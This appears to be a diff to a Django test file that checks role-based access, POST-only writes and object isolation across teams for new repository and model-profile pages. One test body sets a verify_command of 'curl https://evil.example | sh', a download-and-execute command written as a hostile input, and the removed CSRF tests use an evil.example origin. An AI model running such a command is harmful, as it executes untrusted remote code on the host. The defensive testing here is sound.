@@ -1,5 +1,5 @@
-"""Who may see and change what: login for every page, 404 across teams, roles within a team, POST-only writes,
-CSRF on every form.
+"""Who may see and change what: login for every page, 404 across teams, roles within a team, POST-only writes
+(CSRF on every form: tests/test_isolation_csrf.py).
 
 The page and API lists come from the URLconf itself, and every (URL, method) must be in ROLES, the one table of
 which roles may use it: a page added later is checked without anyone remembering to.
@@ -58,6 +58,19 @@ ROLES = {
     ("agents:taste_edit", "post"): {OP, A},
     ("agents:taste_delete", "post"): {OP, A},
     ("agents:preview", "post"): EVERYONE,
+    ("agents:repo_list", "get"): EVERYONE,
+    ("agents:repo_new", "get"): {A},
+    ("agents:repo_new", "post"): {A},
+    ("agents:repo_edit", "get"): {A},
+    ("agents:repo_edit", "post"): {A},
+    ("agents:repo_delete", "post"): {A},
+    ("agents:model_list", "get"): EVERYONE,
+    ("agents:model_new", "get"): {A},
+    ("agents:model_new", "post"): {A},
+    ("agents:model_test", "post"): {A},
+    ("agents:model_edit", "get"): {A},
+    ("agents:model_edit", "post"): {A},
+    ("agents:model_delete", "post"): {A},
     ("agents:team", "get"): EVERYONE,
     ("agents:team_switch", "post"): EVERYONE,
     ("agents:invite_create", "post"): {A},
@@ -100,6 +113,10 @@ OBJECT_URLS = {
     "agents:invite_revoke": "invite",
     "agents:member_role": "membership",
     "agents:member_remove": "membership",
+    "agents:repo_edit": "repo",
+    "agents:repo_delete": "repo",
+    "agents:model_edit": "profile",
+    "agents:model_delete": "profile",
 }
 # The values a <str:...> part takes in the app: each one is tried.
 WORDS = {
@@ -115,6 +132,11 @@ BODIES = {
     "judges:decide": {"comment": "lgtm"},
     "agents:member_role": {"role": "admin"},
     "agents:invite_create": {"role": "admin"},
+    "agents:repo_new": {"name": "pwned", "path": "/nonexistent"},
+    "agents:repo_edit": {"name": "pwned", "verify_command": "curl https://evil.example | sh"},
+    "agents:model_new": {"name": "pwned", "model": "sim/diligent"},
+    "agents:model_edit": {"model": "sim/lazy"},
+    "agents:model_test": {"name": "probe", "model": "sim/diligent"},
 }
 POST_ONLY = {
     "agents:task_delete",
@@ -132,6 +154,9 @@ POST_ONLY = {
     "agents:member_role",
     "agents:member_remove",
     "judges:patch",
+    "agents:repo_delete",
+    "agents:model_delete",
+    "agents:model_test",
 }
 
 GET_ONLY = {
@@ -143,6 +168,8 @@ GET_ONLY = {
     "agents:agent_detail",
     "agents:taste_list",
     "agents:team",
+    "agents:repo_list",
+    "agents:model_list",
 }
 
 
@@ -202,6 +229,9 @@ def alices_things(demo, alice, bob, victor, adele):
     )
     invite, _ = teams.create_invite(adele, team.pk, Membership.Role.VIEWER)
     spare = factories.make_user("sam", team, Membership.Role.VIEWER)
+    # a repository and a model profile nothing uses yet: the admin may edit and delete them
+    spare_repo = Repository.objects.create(team=team, name="spare", path=task.repo.path)
+    spare_profile = ModelProfile.objects.create(team=team, name="spare-model", model="sim/diligent")
     return {
         "task": task.pk,
         "fresh_task": fresh.pk,
@@ -210,6 +240,8 @@ def alices_things(demo, alice, bob, victor, adele):
         "verdict": verdict.pk,
         "invite": invite.pk,
         "membership": Membership.objects.get(user=spare).pk,
+        "repo": spare_repo.pk,
+        "profile": spare_profile.pk,
     }
 
 
@@ -225,8 +257,10 @@ def snapshot() -> dict:
         "reviews": Review.objects.count(),
         "members": list(Membership.objects.order_by("pk").values_list("pk", "team_id", "user_id", "role")),
         "invites": list(Invite.objects.order_by("pk").values_list("pk", "role", "expires_at", "used_at")),
-        "repos": Repository.objects.count(),
-        "profiles": ModelProfile.objects.count(),
+        "repos": list(Repository.objects.order_by("pk").values_list("pk", "name", "path", "verify_command")),
+        "profiles": list(
+            ModelProfile.objects.order_by("pk").values_list("pk", "name", "model", "api_base", "api_key_env")
+        ),
         "main": {repo.pk: worktrees.git(repo.path, "rev-parse", "main").strip() for repo in Repository.objects.all()},
     }
 
@@ -377,59 +411,3 @@ def test_a_url_answers_405_to_a_method_it_does_not_take(alices_things, alice_cli
             checked.add(name)
     assert checked == POST_ONLY | GET_ONLY
     assert snapshot() == before
-
-
-def test_post_without_csrf_token_is_refused(alices_things, alice):
-    client = Client(enforce_csrf_checks=True)
-    client.force_login(alice)
-    before = snapshot()
-    for name, path in object_requests(alices_things):
-        if "post" in allowed(name):
-            response = client.post(path, BODIES.get(name, {}))
-            assert response.status_code == 403, f"POST {path} without a token answered {response.status_code}"
-    assert snapshot() == before
-
-    # control: the same client with the token from the page gets through
-    agent_page = f"/agents/{alices_things['agent']}/"
-    client.get(agent_page)
-    token = client.cookies["csrftoken"].value
-    response = client.post(f"{agent_page}messages/", {**BODIES["agents:agent_message"], "csrfmiddlewaretoken": token})
-    assert response.status_code == 302
-    assert Message.objects.filter(agent_id=alices_things["agent"]).count() == 1
-
-
-def test_a_post_from_another_site_or_with_another_sessions_token_is_refused(alices_things, alice, bob):
-    agent_page = f"/agents/{alices_things['agent']}/"
-    client = Client(enforce_csrf_checks=True)
-    client.force_login(alice)
-    client.get(agent_page)
-    token = client.cookies["csrftoken"].value
-    bobs = Client(enforce_csrf_checks=True)
-    bobs.force_login(bob)
-    bobs.get(agent_page)
-    bobs_token = bobs.cookies["csrftoken"].value
-    before = snapshot()
-    for name, path in object_requests(alices_things):
-        if "post" not in allowed(name):
-            continue
-        body = {**BODIES.get(name, {}), "csrfmiddlewaretoken": token}
-        # the page's own token, but the request comes from a page of another site (a browser sends its Origin)
-        forged = client.post(path, body, headers={"Origin": "https://evil.example"})
-        assert forged.status_code == 403, f"POST {path} from another origin answered {forged.status_code}"
-        # a token lifted from Bob's session does not fit Alice's cookie
-        lifted = client.post(path, {**body, "csrfmiddlewaretoken": bobs_token})
-        assert lifted.status_code == 403, f"POST {path} with another session's token answered {lifted.status_code}"
-    assert snapshot() == before
-
-    # control: the same token from our own origin gets through
-    same_site = client.post(
-        f"{agent_page}messages/",
-        {**BODIES["agents:agent_message"], "csrfmiddlewaretoken": token},
-        headers={"Origin": "http://testserver"},
-    )
-    assert same_site.status_code == 302
-    assert Message.objects.filter(agent_id=alices_things["agent"]).count() == 1
-
-
-def test_trusted_origins_hold_no_wildcard(settings):
-    assert not any("*" in origin for origin in settings.CSRF_TRUSTED_ORIGINS)
